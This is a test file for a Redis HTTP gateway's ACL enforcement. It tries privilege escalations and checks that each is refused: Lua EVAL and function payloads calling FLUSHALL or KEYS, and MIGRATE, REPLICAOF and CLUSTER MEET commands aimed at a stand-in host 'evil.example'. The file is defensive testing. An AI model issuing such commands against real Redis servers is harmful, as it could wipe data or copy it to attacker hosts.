// Privileges are enforced where commands run: tokens run as Redis ACL users that the gateway
// provisions on every endpoint, so no route (scripts, functions, transactions, pipelines, the path
// form) makes Redis run a command the token could not run directly; and MIGRATE, REPLICAOF and
// CLUSTER MEET never make Redis connect to a host that discovery did not name. Against real
// redis-server processes (7.x), with the real levels' tokens; each escalation is tried, refused,
// and the data it aimed at is checked to be intact.

import { mkdtemp, writeFile } from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { ADMIN_TOKEN, READ_TOKEN, startGateway, WRITE_TOKEN, type TestGateway } from '../helpers/gateway.js'
import { startRedis, type RedisServer } from '../helpers/redis-server.js'
import { call } from '../helpers/rest.js'
import { waitFor } from '../helpers/wait.js'
import { aclSettings, MAX_PASSWORDS, provisionLevelUsers } from '../../src/upstream/acl-users.js'
import { EndpointClient } from '../../src/upstream/endpoint-client.js'

const SCRIPT_DENIED = /can't run this command or subcommand/

let redis: RedisServer
let other: RedisServer
let replica: RedisServer
let gw: TestGateway
let dir: string

async function secretFile(name: string, content: string): Promise<string> {
  const p = path.join(dir, name)
  await writeFile(p, `${content}\n`)
  return p
}

beforeAll(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'rg-acl-'))
  redis = await startRedis()
  other = await startRedis()
  replica = await startRedis({ replicaOf: redis })
  await replica.waitForSync()
  const direct = redis.client()
  await direct.call('ACL', 'SETUSER', 'tenant-a', 'on', '>tenant-a-pw', 'resetkeys', '~tenant-a:*', 'resetchannels', '&tenant-a:*', '+@all', '-@dangerous')
  await replica.client().call('ACL', 'SETUSER', 'tenant-a', 'on', '>tenant-a-pw', 'resetkeys', '~tenant-a:*', 'resetchannels', '&tenant-a:*', '+@all', '-@dangerous')
  gw = await startGateway({
    instances: [
      { name: 'main', endpoints: [redis.url, replica.url] },
      { name: 'other', endpoints: [other.url] },
      { name: 'replicas', endpoints: [redis.url, replica.url], annotations: { 'redis-gateway.io/read-policy': 'replica' } },
    ],
    tokens: [
      { name: 'tenant', token: 'tenant-token', access: 'write', redisUser: 'tenant-a', redisPasswordFile: await secretFile('tenant-a', 'tenant-a-pw') },
      { name: 'badpw', token: 'badpw-token', access: 'read', redisUser: 'tenant-a', redisPasswordFile: await secretFile('badpw', 'wrong') },
    ],
  })
  await direct.set('victim', 'precious')
})

afterAll(async () => {
  await gw?.stop()
  await replica?.stop()
  await other?.stop()
  await redis?.stop()
})

const base = (instance = 'main'): string => gw.base(instance)

async function victimIntact(): Promise<void> {
  expect(await redis.client().get('victim')).toBe('precious')
}

describe('scripts cannot exceed the token', () => {
  test("a write token's EVAL cannot FLUSHALL (FLUSHALL itself is admin only)", async () => {
    expect((await call(base(), WRITE_TOKEN, ['FLUSHALL'])).status).toBe(403)
    const r = await call(base(), WRITE_TOKEN, ['EVAL', "return redis.call('FLUSHALL')", '0'])
    expect(r.status).toBe(400)
    expect(r.json.error).toMatch(SCRIPT_DENIED)
    await victimIntact()
  })

  test('scripts within the token\'s rights keep working (rate limiters depend on them)', async () => {
    const w = await call(base(), WRITE_TOKEN, ['EVAL', "redis.call('SET', KEYS[1], ARGV[1]); return redis.call('INCR', KEYS[2])", '2', 'acl:s', 'acl:n', 'v'])
    expect(w).toEqual({ status: 200, json: { result: 1 } })
    const r = await call(base(), READ_TOKEN, ['EVAL_RO', "return redis.call('GET', KEYS[1])", '1', 'acl:s'])
    expect(r).toEqual({ status: 200, json: { result: 'v' } })
    const sha = (await call(base(), WRITE_TOKEN, ['SCRIPT', 'LOAD', "return redis.call('GET', KEYS[1])"])).json.result as string
    expect((await call(base(), READ_TOKEN, ['EVALSHA_RO', sha, '1', 'acl:s'])).json.result).toBe('v')
  })

  test("a read token's EVAL_RO cannot run KEYS, INFO or SLOWLOG GET", async () => {
    for (const cmd of ["redis.call('KEYS', '*')", "redis.call('INFO')", "redis.call('SLOWLOG', 'GET')"]) {
      const r = await call(base(), READ_TOKEN, ['EVAL_RO', `return ${cmd}`, '0'])
      expect(r.status, cmd).toBe(400)
      expect(r.json.error, cmd).toMatch(SCRIPT_DENIED)
    }
  })

  test('MIGRATE inside a script reaches no host, for write and admin tokens alike', async () => {
    const script = `return redis.call('MIGRATE', '127.0.0.1', '${other.port}', 'victim', '0', '1000', 'COPY')`
    for (const token of [WRITE_TOKEN, ADMIN_TOKEN]) {
      const r = await call(base(), token, ['EVAL', script, '0'])
      expect(r.status).toBe(400)
      expect(r.json.error).toMatch(SCRIPT_DENIED)
    }
    expect(await other.client().exists('victim')).toBe(0)
  })

  test('a no-writes function loaded by a write token gives a read token no admin command through FCALL_RO', async () => {
    const lib = `#!lua name=escalate
redis.register_function{function_name='flush', callback=function() return redis.call('FLUSHALL') end, flags={'no-writes'}}
redis.register_function{function_name='keys', callback=function() return redis.call('KEYS', '*') end, flags={'no-writes'}}
redis.register_function{function_name='get', callback=function(k) return redis.call('GET', k[1]) end, flags={'no-writes'}}`
    expect((await call(base(), WRITE_TOKEN, ['FUNCTION', 'LOAD', 'REPLACE', lib])).json.result).toBe('escalate')
    for (const f of ['flush', 'keys']) {
      const r = await call(base(), READ_TOKEN, ['FCALL_RO', f, '0'])
      expect(r.status, f).toBe(400)
      expect(r.json.error).toMatch(SCRIPT_DENIED)
    }
    expect((await call(base(), READ_TOKEN, ['FCALL_RO', 'get', '1', 'victim'])).json.result).toBe('precious')
    await victimIntact()
  })

  test('inside /multi-exec and /pipeline the same holds, item by item', async () => {
    const p = await call(`${base()}/pipeline`, READ_TOKEN, [['EVAL_RO', "return redis.call('KEYS','*')", '0'], ['GET', 'victim']])
    expect(p.status).toBe(200)
    expect((p.json[0] as { error: string }).error).toMatch(SCRIPT_DENIED)
    expect(p.json[1]).toEqual({ result: 'precious' })
    const m = await call(`${base()}/multi-exec`, WRITE_TOKEN, [['SET', 'acl:m', '1'], ['EVAL', "return redis.call('FLUSHDB')", '0']])
    expect(m.status).toBe(200)
    expect(m.json[0]).toEqual({ result: 'OK' })
    expect((m.json[1] as { error: string }).error).toMatch(SCRIPT_DENIED)
    await victimIntact()
  })

  test('the path form too', async () => {
    const res = await fetch(`${base()}/eval/${encodeURIComponent("return redis.call('FLUSHALL')")}/0`, { headers: { authorization: `Bearer ${WRITE_TOKEN}` } })
    expect(res.status).toBe(400)
    await victimIntact()
  })

  test('each level runs as its own provisioned user, on the replica too (ACL users are per server)', async () => {
    const view = (await (await fetch(`${gw.opsUrl}/admin/routes`, { headers: { authorization: `Bearer ${ADMIN_TOKEN}` } })).json()) as { instances: { name: string; endpoints: { aclUsers: { state: string } }[] }[] }
    expect(view.instances.find((i) => i.name === 'main')!.endpoints.map((e) => e.aclUsers.state)).toEqual(['managed', 'managed'])
    const levels = (await redis.clientList()).map((c) => c['user']).filter((u) => u?.startsWith('redis-gateway-'))
    expect(new Set(levels.map((u) => u!.replace(/-[0-9a-f]+$/, '')))).toEqual(
      new Set(['redis-gateway-read', 'redis-gateway-write', 'redis-gateway-admin']),
    )
    // A read served by the replica: its users are provisioned there.
    await redis.client().set('acl:rep', 'r')
    await waitFor(async () => expect((await call(base('replicas'), READ_TOKEN, ['GET', 'acl:rep'])).json.result).toBe('r'))
    const onReplica = ((await replica.client().call('ACL', 'USERS')) as string[]).filter((u) => u.startsWith('redis-gateway-read-'))
    expect(onReplica).toHaveLength(1)
    const r = await call(base('replicas'), READ_TOKEN, ['EVAL_RO', "return redis.call('KEYS', '*')", '0'])
    expect(r.json.error).toMatch(SCRIPT_DENIED)
  })
})

describe('commands that make Redis connect out name only discovered endpoints', () => {
  test('MIGRATE to a host discovery did not name is a 403, to a discovered endpoint it runs', async () => {
    const outside = await call(base(), ADMIN_TOKEN, ['MIGRATE', '127.0.0.1', '1', 'victim', '0', '1000', 'COPY'])
    expect(outside.status).toBe(403)
    expect(outside.json.error).toMatch(/^FORBIDDEN MIGRATE may only name an endpoint the gateway discovered/)
    const inside = await call(base(), ADMIN_TOKEN, ['MIGRATE', '127.0.0.1', String(other.port), 'victim', '0', '1000', 'COPY'])
    expect(inside).toEqual({ status: 200, json: { result: 'OK' } })
    expect(await other.client().get('victim')).toBe('precious')
    // In a pipeline: that item is refused, the rest runs.
    const p = await call(`${base()}/pipeline`, ADMIN_TOKEN, [['MIGRATE', 'evil.example', '6379', 'victim', '0', '10'], ['GET', 'victim']])
    expect((p.json[0] as { error: string }).error).toMatch(/^FORBIDDEN MIGRATE/)
    expect(p.json[1]).toEqual({ result: 'precious' })
  })

  test('REPLICAOF and CLUSTER MEET likewise; REPLICAOF NO ONE is not a host', async () => {
    expect((await call(base(), ADMIN_TOKEN, ['REPLICAOF', '10.9.9.9', '6379'])).status).toBe(403)
    expect((await call(base(), ADMIN_TOKEN, ['SLAVEOF', 'evil.example', '6379'])).status).toBe(403)
    expect((await call(base(), ADMIN_TOKEN, ['CLUSTER', 'MEET', '10.9.9.9', '6379'])).status).toBe(403)
    expect((await call(base('other'), ADMIN_TOKEN, ['REPLICAOF', 'NO', 'ONE'])).json.result).toBe('OK')
  })
})

describe('operator-managed Redis users', () => {
  test("a token bound to a Redis user gets that user's key patterns, scripts included", async () => {
    expect((await call(base(), 'tenant-token', ['SET', 'tenant-a:k', 'v'])).json.result).toBe('OK')
    const foreign = await call(base(), 'tenant-token', ['GET', 'victim'])
    expect(foreign.status).toBe(400)
    expect(foreign.json.error).toMatch(/^NOPERM/)
    const script = await call(base(), 'tenant-token', ['EVAL', "return redis.call('GET', 'victim')", '0'])
    expect(script.status).toBe(400)
    expect(script.json.error).toMatch(/The user executing the script can't access at least one of the keys/)
    expect((await redis.clientList()).some((c) => c['user'] === 'tenant-a')).toBe(true)
  })

  test("read-your-writes tokens advance for a user that may not run ROLE (asked on the gateway's own connection)", async () => {
    const offsetOf = (t: string | null): number => Number(t?.split(':')[3])
    const before = Number(/master_repl_offset:(\d+)/.exec(await redis.info('replication'))![1])
    const res = await fetch(base(), { method: 'POST', headers: { authorization: 'Bearer tenant-token' }, body: JSON.stringify(['SET', 'tenant-a:ryw', 'x'.repeat(100)]) })
    expect(res.status).toBe(200)
    await res.text()
    const after = Number(/master_repl_offset:(\d+)/.exec(await redis.info('replication'))![1])
    const token = offsetOf(res.headers.get('upstash-sync-token'))
    expect(token).toBeGreaterThan(before)
    expect(token).toBeLessThanOrEqual(after)
  })

  test('a wrong password is a 503 for that token only', async () => {
    const r = await call(base(), 'badpw-token', ['GET', 'tenant-a:k'])
    expect(r.status).toBe(503)
    expect(r.json.error).toMatch(/^NOENDPOINT/)
    expect((await call(base(), READ_TOKEN, ['GET', 'victim'])).json.result).toBe('precious')
  })

  test("SSE streams of a bound token subscribe as its user: a channel outside its patterns is refused", async () => {
    const ok = await fetch(`${base()}/subscribe/tenant-a:news`, { method: 'POST', headers: { authorization: 'Bearer tenant-token', accept: 'text/event-stream' } })
    expect(ok.status).toBe(200)
    const reader = ok.body!.getReader()
    const first = new TextDecoder().decode((await reader.read()).value)
    expect(first).toContain('subscribe,tenant-a:news,1')
    await reader.cancel()
    const denied = await fetch(`${base()}/subscribe/other-news`, { method: 'POST', headers: { authorization: 'Bearer tenant-token', accept: 'text/event-stream' } })
    expect(denied.status).toBe(503)
    await denied.text()
  })
})

describe('provisioning heals', () => {
  test('after the users are deleted (as ACL LOAD or a restart does), tokens work again and scripts stay bounded', async () => {
    const direct = redis.client()
    const users = ((await direct.call('ACL', 'USERS')) as string[]).filter((u) => u.startsWith('redis-gateway-'))
    expect(users).toHaveLength(3)
    // Deleting a user disconnects its clients.
    await direct.call('ACL', 'DELUSER', ...users)
    await waitFor(async () => expect((await call(base(), READ_TOKEN, ['GET', 'victim'])).json.result).toBe('precious'), {
      message: 'the read token to be served again',
    })
    await waitFor(async () => expect((await call(base(), WRITE_TOKEN, ['SET', 'acl:after', '1'])).json.result).toBe('OK'))
    expect((await call(base(), WRITE_TOKEN, ['EVAL', "return redis.call('FLUSHALL')", '0'])).json.error).toMatch(SCRIPT_DENIED)
    expect(((await direct.call('ACL', 'USERS')) as string[]).filter((u) => u.startsWith('redis-gateway-')).sort()).toEqual(users.sort())
  })

  test('after a Redis restart (users live in memory only), likewise', async () => {
    await other.client().set('k', 'v')
    await other.restart()
    await waitFor(async () => expect((await call(base('other'), READ_TOKEN, ['GET', 'k'])).status).toBe(200), { timeoutMs: 15_000 })
    expect((await call(base('other'), READ_TOKEN, ['EVAL_RO', "return redis.call('KEYS','*')", '0'])).json.error).toMatch(SCRIPT_DENIED)
  })

  test('connections of token users close when idle and open again on use', async () => {
    const ep = gw.gateway.pool.get(`127.0.0.1:${redis.port}`)!
    expect(ep.client.userConnections).toBeGreaterThan(0)
    ep.client.sweepIdle()
    ep.client.sweepIdle()
    expect(ep.client.userConnections).toBe(0)
    await waitFor(async () => expect((await redis.gatewayConnections()).levels).toEqual({}))
    expect((await call(base(), READ_TOKEN, ['GET', 'victim'])).json.result).toBe('precious')
    expect(ep.client.userConnections).toBe(1)
  })
})

describe('passwords of many gateway replicas', () => {
  const servers: RedisServer[] = []
  afterEach(async () => {
    for (const s of servers.splice(0)) await s.stop()
  })

  test(`a level user keeps at most ${MAX_PASSWORDS} passwords, the newest, and the newest replica can log in`, async () => {
    const server = await startRedis()
    servers.push(server)
    const client = new EndpointClient({ id: `127.0.0.1:${server.port}`, host: '127.0.0.1', port: server.port, ready: true }, {
      username: '',
      password: '',
      tls: false,
      commandTimeoutMs: 2000,
      connectTimeoutMs: 1000,
    })
    client.start()
    await waitFor(() => client.up)
    const replicas = Array.from({ length: MAX_PASSWORDS + 4 }, () => aclSettings(true))
    let users
    const table = await client.learnCommands()
    for (const acl of replicas) users = await provisionLevelUsers((a) => client.send(a), acl, table!)
    await client.stop()
    const direct = server.client()
    const info = (await direct.call('ACL', 'GETUSER', users!.read.name)) as unknown[]
    const passwords = info[info.indexOf('passwords') + 1] as string[]
    expect(passwords).toHaveLength(MAX_PASSWORDS)
    const newest = server.client({ username: users!.read.name, password: replicas.at(-1)!.password, enableReadyCheck: false })
    expect(await newest.ping()).toBe('PONG')
    const oldest = server.client({ username: users!.read.name, password: replicas[0]!.password, enableReadyCheck: false, retryStrategy: () => null })
    await expect(oldest.ping()).rejects.toThrow()
  })
})

describe('where the gateway cannot manage ACL users', () => {
  const servers: RedisServer[] = []
  const gateways: TestGateway[] = []
  afterEach(async () => {
    for (const g of gateways.splice(0)) await g.stop()
    for (const s of servers.splice(0)) await s.stop()
  })

  test('a gateway user without ACL permissions: scripts are a 403 that says why for read and write tokens; other commands and admin scripts run', async () => {
    const server = await startRedis()
    servers.push(server)
    await server.client().call('ACL', 'SETUSER', 'gw', 'on', '>gw-pw', '~*', '&*', '+@all', '-acl')
    const g = await startGateway({
      instances: [{ name: 'main', endpoints: [server.url] }],
      extra: { redis: { username: 'gw', passwordFile: await secretFile('gw', 'gw-pw'), commandTimeout: '2s', connectTimeout: '1s' } },
    })
    gateways.push(g)
    const b = g.base('main')
    const r = await call(b, WRITE_TOKEN, ['EVAL', "return redis.call('FLUSHALL')", '0'])
    expect(r.status).toBe(403)
    expect(r.json.error).toMatch(/^FORBIDDEN scripts and functions run as a Redis ACL user .*may not create ACL users \(NOPERM/)
    expect((await call(b, READ_TOKEN, ['FCALL_RO', 'f', '0'])).status).toBe(403)
    expect((await call(b, WRITE_TOKEN, ['SET', 'k', 'v'])).json.result).toBe('OK')
    expect((await call(b, READ_TOKEN, ['GET', 'k'])).json.result).toBe('v')
    expect((await call(b, ADMIN_TOKEN, ['EVAL', "return redis.call('GET', 'k')", '0'])).json.result).toBe('v')
    expect((await server.gatewayConnections()).levels).toEqual({})
    // Operators see it on the routing view.
    const view = (await (await fetch(`${g.opsUrl}/admin/routes`, { headers: { authorization: `Bearer ${ADMIN_TOKEN}` } })).json()) as { instances: { endpoints: { aclUsers: { state: string; reason: string } }[] }[] }
    expect(view.instances[0]!.endpoints[0]!.aclUsers).toMatchObject({ state: 'unmanaged', reason: expect.stringContaining('NOPERM') })
  })

  test('redis.aclUsers: false: the same 403, naming the setting', async () => {
    const server = await startRedis()
    servers.push(server)
    const g = await startGateway({
      instances: [{ name: 'main', endpoints: [server.url] }],
      extra: { redis: { aclUsers: false, commandTimeout: '2s', connectTimeout: '1s' } },
    })
    gateways.push(g)
    const r = await call(g.base('main'), READ_TOKEN, ['EVAL_RO', 'return 1', '0'])
    expect(r.status).toBe(403)
    expect(r.json.error).toContain('redis.aclUsers is false')
    expect((await call(g.base('main'), READ_TOKEN, ['PING'])).json.result).toBe('PONG')
    expect(((await server.client().call('ACL', 'USERS')) as string[]).some((u) => u.startsWith('redis-gateway-'))).toBe(false)
  })
})
